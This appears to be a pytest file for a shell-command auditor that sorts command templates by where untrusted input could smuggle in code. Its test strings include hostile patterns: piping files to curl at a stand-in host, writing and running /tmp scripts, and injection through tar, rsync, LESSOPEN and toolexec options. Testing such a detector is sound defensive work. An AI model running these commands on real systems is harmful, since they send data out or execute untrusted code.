"""What can only be an argument of a program that is written down."""

from __future__ import annotations

import pytest

from skillkeep.auditor.engines.quoted import is_argument, is_known_program, is_weakness
from skillkeep.auditor.engines.values import HOLE


@pytest.mark.parametrize(
    "text",
    [
        f"tar -czf notes.tgz {HOLE}",
        f"node scripts/extract.js {HOLE}",
        f'"{HOLE}/scripts/run.sh" {HOLE}',
        f"git -C {HOLE} status 2>/dev/null",
    ],
)
def test_a_program_that_is_written_down_is_known(text: str) -> None:
    assert is_known_program(text)


@pytest.mark.parametrize(
    "text",
    [
        HOLE,
        f"{HOLE} --version",
        f"sh -c {HOLE}",
        f"tar x | {HOLE}",
        f"ssh host {HOLE}",
        f"find . -exec {HOLE}",
        f"cat {HOLE} | node scripts/run.js | sh",
        f"cat notes | {HOLE}/run.sh",
        f"python3 -m timeit {HOLE}",
        f"python3 -m code.more {HOLE}",
        f"python3 -m pip install {HOLE}",
        f"python3 -m uv run {HOLE}",
        f"python3 -m IPython -c {HOLE}",
        f"python3 -m bash {HOLE}",
        f"python3 -m {HOLE} a",
    ],
)
def test_a_program_that_is_made_or_runs_what_it_is_given_is_not(text: str) -> None:
    assert not is_known_program(text)


def test_a_module_that_serves_files_runs_nothing_between_quotes() -> None:
    assert is_argument(f'nohup python3 -m http.server 8080 --directory "{HOLE}" > a.log 2>&1 &')
    assert is_argument(f'start /b python -m http.server 8080 --directory "{HOLE}"')
    assert not is_argument(f'nohup {HOLE} "a"')
    assert not is_argument(f'cat a | nohup python3 -m http.server "{HOLE}" | sh')


@pytest.mark.parametrize(
    "text",
    [
        f"npx acme-cli publish {HOLE} --name parcels",
        f"node render.js --file {HOLE}",
        f"pip install acme && cp {HOLE} notes",
        f"sheets update '{HOLE}'!D1 --json '[[{HOLE}]]'",
        f'WHO="{HOLE}" python3 {HOLE}/clock.py charge start',
        f'python3 -m acme_speech "{HOLE}" --model small --language {HOLE}',
        f'acme-browser open "{HOLE}" --wait {HOLE}',
    ],
)
def test_a_strangers_text_in_an_argument_is_a_weakness(text: str) -> None:
    assert is_weakness(text)


@pytest.mark.parametrize(
    "text",
    [
        f"git clone {HOLE} x",
        f"npx {HOLE} publish",
        f"cd {HOLE} && npm install",
        f"A={HOLE}; curl $A",
        f"A={HOLE}; python3 clock.py start",
        f"A={HOLE} open clock.txt",
        f"python3 {HOLE}/clock.py start {HOLE} | curl -d @- https://c.example.invalid",
        f"cat {HOLE} | curl -d @- https://c.example.invalid",
        f"echo {HOLE} > /tmp/run.sh && bash /tmp/run.sh",
        f"node -e {HOLE}",
        f"pip install {HOLE}",
    ],
)
def test_a_text_that_brings_or_starts_code_or_leaves_is_no_weakness(text: str) -> None:
    assert not is_weakness(text)


def test_an_empty_pair_of_braces_is_a_word() -> None:
    assert is_weakness(f"cp {{}} {HOLE}/config.toml")
    assert not is_weakness(f"{{ {HOLE}; }}")


@pytest.mark.parametrize("text", [f"npm view {HOLE} version", f"pip list | grep {HOLE}"])
def test_an_order_to_a_known_program_is_no_program(text: str) -> None:
    assert is_weakness(text)


@pytest.mark.parametrize(
    "text",
    [
        f"open {HOLE}",
        f"npm view a; npm install {HOLE}",
        f"npm --prefix view install {HOLE}",
        f"yarn show {HOLE}",
        f"go list -toolexec={HOLE}",
    ],
)
def test_an_order_to_a_program_that_runs_it_is_one(text: str) -> None:
    assert not is_weakness(text)


@pytest.mark.parametrize(
    "text",
    [
        f'timeout 5 "{HOLE}"',
        f'flock /tmp/lock "{HOLE}"',
        f'systemd-run --user "{HOLE}"',
        f'uv run "{HOLE}"',
        f'conda run -n boxes "{HOLE}"',
        f'git -c "{HOLE}" status',
        f'tar --to-command="{HOLE}" -xf a.tar',
        f'rsync -e "{HOLE}" a b',
        f'vim -c "{HOLE}" a',
        f'ssh-keygen -D "{HOLE}"',
        f'tmux send-keys -t boxes "{HOLE}" Enter',
        f'LESSOPEN="{HOLE}" less a',
    ],
)
def test_what_a_program_starts_is_no_argument(text: str) -> None:
    assert not is_argument(text)


@pytest.mark.parametrize(
    "text",
    [
        f'timeout 5 ls "{HOLE}"',
        f'timeout 5 python3 a.py "{HOLE}"',
        f'sudo docker build -t "{HOLE}" .',
        f'uv run a.py "{HOLE}"',
        f'git -C "{HOLE}" status',
        f'tar -xf "{HOLE}"',
        f'rsync -a "{HOLE}" b',
        f'tmux kill-session -t "{HOLE}"',
    ],
)
def test_what_a_started_program_is_given_is_an_argument(text: str) -> None:
    assert is_argument(text)


@pytest.mark.parametrize(
    "text",
    [
        f"open {HOLE}",
        f"/usr/bin/open {HOLE}",
        f"nohup open {HOLE}",
        f"sudo open {HOLE}",
        f"env A=1 open {HOLE}",
        f"gio open {HOLE}",
        f"if true; then open {HOLE}; fi",
        f"acme-browser open {HOLE} && open {HOLE}",
        f"acme-browser {HOLE}; xdg-open {HOLE}",
        f"npx open {HOLE}",
        f"{HOLE} open a",
    ],
)
def test_what_opens_a_strangers_file_is_more_than_a_weakness(text: str) -> None:
    assert not is_weakness(text)
